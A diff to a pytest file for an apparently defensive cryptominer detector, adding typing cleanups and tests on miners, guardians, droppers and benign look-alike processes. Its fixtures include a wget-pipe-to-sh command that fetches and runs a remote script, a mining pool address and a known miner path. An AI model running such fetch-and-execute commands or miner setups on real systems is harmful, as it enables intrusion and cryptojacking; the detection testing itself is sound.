@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import time
+from collections.abc import Callable
+from typing import Any
 
 import msgspec
 import pytest
@@ -39,8 +41,8 @@ FETCH = "wget -q -O - http://203.0.113.9/unk.sh | sh > /dev/null 2>&1"
 POOL = ("101.32.166.253", 3333)
 
 
-def miner(pid: int = 300, path: str = "/tmp/kdevtmpfsi", **options: object) -> Process:
-    return process(pid, path, **{"cores": 1.0, **options})  # type: ignore[arg-type]
+def miner(pid: int = 300, path: str = "/tmp/kdevtmpfsi", **options: Any) -> Process:
+    return process(pid, path, **{"cores": 1.0, **options})
 
 
 # Verdicts on what runs
@@ -62,9 +64,9 @@ def miner(pid: int = 300, path: str = "/tmp/kdevtmpfsi", **options: object) -> P
         ((lambda age: process(300, "[kworker/0:1]", exe="/dev/shm/x", cores=1.0, age=age),), Verdict.CONFIRMED),
     ],
 )  # fmt: skip
-def test_a_fresh_miner_is_judged_as_an_old_one(facts: tuple[object, ...], verdict: Verdict, age: float) -> None:
+def test_a_fresh_miner_is_judged_as_an_old_one(facts: tuple[Any, ...], verdict: Verdict, age: float) -> None:
     (make,) = facts
-    assert judged(snapshot(make(age))).verdict is verdict  # type: ignore[operator]
+    assert judged(snapshot(make(age))).verdict is verdict
 
 
 @pytest.mark.parametrize("waited", [0.0, 0.7])
@@ -108,7 +110,7 @@ def test_a_miner_that_bears_an_interpreter_s_name_is_judged_by_its_own_place(wor
 
 
 SHELL = process(50, "-bash", exe=BASH, user="ada", tty=TTY, session=50)
-TYPED: dict[str, object] = {"ppid": 50, "user": "ada", "tty": TTY, "session": 50}
+TYPED: dict[str, Any] = {"ppid": 50, "user": "ada", "tty": TTY, "session": 50}
 PYTEST = process(60, "python3", "-m", "pytest", exe=PYENV)
 HONEST: dict[str, tuple[Fact, ...]] = {
     "openssl speed": tuple(
@@ -124,7 +126,7 @@ HONEST: dict[str, tuple[Fact, ...]] = {
         process(300, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "x.c", in_window=False, age=0.1),
         renewal("/usr/lib/gcc/x86_64-linux-gnu/12/cc1"),
     ),
-    "a training run of a person": (SHELL, process(300, "python3", "/tmp/train.py", exe=PYENV, cores=4.0, **TYPED)),  # type: ignore[arg-type]
+    "a training run of a person": (SHELL, process(300, "python3", "/tmp/train.py", exe=PYENV, cores=4.0, **TYPED)),
     "a training run": (process(300, "python3", "/home/ada/train.py", exe=PYENV, cores=4.0),),
     "a training run in /tmp": (process(300, "python3", "/tmp/train.py", exe=PYENV, cores=4.0, age=90_000),),
     "a training run with the distribution's python": (process(300, "python3", "/tmp/train.py", exe=PYTHON, cores=4.0),),
@@ -167,7 +169,7 @@ HONEST: dict[str, tuple[Fact, ...]] = {
         web := process(300, "node", "/srv/app/server.js", exe="/home/ada/.nvm/versions/node/v20/bin/node", cores=1.0),
         listener(web, 3333),
     ),
-    "a test in /tmp that a person runs": (SHELL, process(300, "/tmp/go-build1/b001/x.test", cores=2.0, **TYPED)),  # type: ignore[arg-type]
+    "a test in /tmp that a person runs": (SHELL, process(300, "/tmp/go-build1/b001/x.test", cores=2.0, **TYPED)),
     "an idle program in /tmp": (process(300, "/tmp/build/server"),),
     "an owner's proxy for miners": (proxy := process(300, "/opt/xmrig-proxy"), listener(proxy, 3333)),
 }  # fmt: skip
@@ -207,6 +209,12 @@ def test_what_was_looked_at_and_let_go_is_told_with_what_speaks_for_and_against(
 def test_several_miners_of_one_program_are_one_incident() -> None:
     found = incident_of(snapshot(*(miner(pid, "/tmp/abcd") for pid in (300, 301, 302)), process(303, "/tmp/abcd")))
     assert pids(found, Role.MINER) == {300, 301, 302, 303}
+
+
+def test_a_miner_that_waits_for_its_workers_is_a_miner_too() -> None:
+    boss = process(300, "/tmp/abcd")
+    found = incident_of(snapshot(boss, *(miner(pid, "/tmp/abcd", ppid=300) for pid in (301, 302))))
+    assert (pids(found, Role.MINER), pids(found, Role.GUARDIAN)) == ({300, 301, 302}, set())
 
 
 def test_guardian_miners_and_their_autostart_are_one_incident() -> None:
@@ -427,6 +435,13 @@ def test_a_process_with_two_roles_to_choose_from_counts_once() -> None:
     assert found.cpu_hours == pytest.approx(3.0)
 
 
+def test_a_text_that_no_shell_reads_makes_nobody_a_dropper() -> None:
+    """A harness in Python that speaks of fetching, beside the gang and above it, as its person's test does."""
+    harness = process(250, "python3", "-c", f"import os  # {FETCH}", exe=PYTHON, cgroup=GROUP, user="www-data")
+    found = incident_of(snapshot(harness, miner(cgroup=GROUP, user="www-data", ppid=250)))
+    assert harness.pid not in pids(found)
+
+
 def test_a_dropper_is_whoever_fetches_for_the_gang() -> None:
     dropper = process(250, "sh", "-c", FETCH, exe=DASH, cgroup=GROUP, user="www-data")
     stranger = process(260, "sh", "-c", FETCH, exe=DASH, cgroup=GROUP, user="ada")
@@ -453,8 +468,8 @@ def test_the_owner_s_work_that_was_slowed_is_named_and_the_gang_s_is_not() -> No
     other = miner(500, "/dev/shm/wxyz", waited=0.5)
     first, second = judged(snapshot(miner(waited=0.5), other, train, build, lazy)).incidents
     for incident in (first, second):
-        assert [(one.pid, one.name, one.share) for one in incident.slowed] == [
-            (400, "python3", pytest.approx(0.4)), (410, "cc1", pytest.approx(0.6)),
+        assert [(one.pid, one.name, round(one.share, 6)) for one in incident.slowed] == [
+            (400, "python3", 0.4), (410, "cc1", 0.6),
         ]  # fmt: skip
 
 
@@ -503,7 +518,7 @@ def test_judging_twice_says_the_same() -> None:
 def test_a_crowd_of_embers_is_judged_in_time(kind: str) -> None:
     """The limit is far above what it takes, and far below what a look at every pair would."""
     count = 3000
-    paths = {
+    paths: dict[str, Callable[[int], str]] = {
         "of one program": lambda _: "/tmp/abcd",
         "of many programs": lambda pid: f"/tmp/x{pid}",
         "in one long chain": lambda pid: f"/tmp/x{pid}",
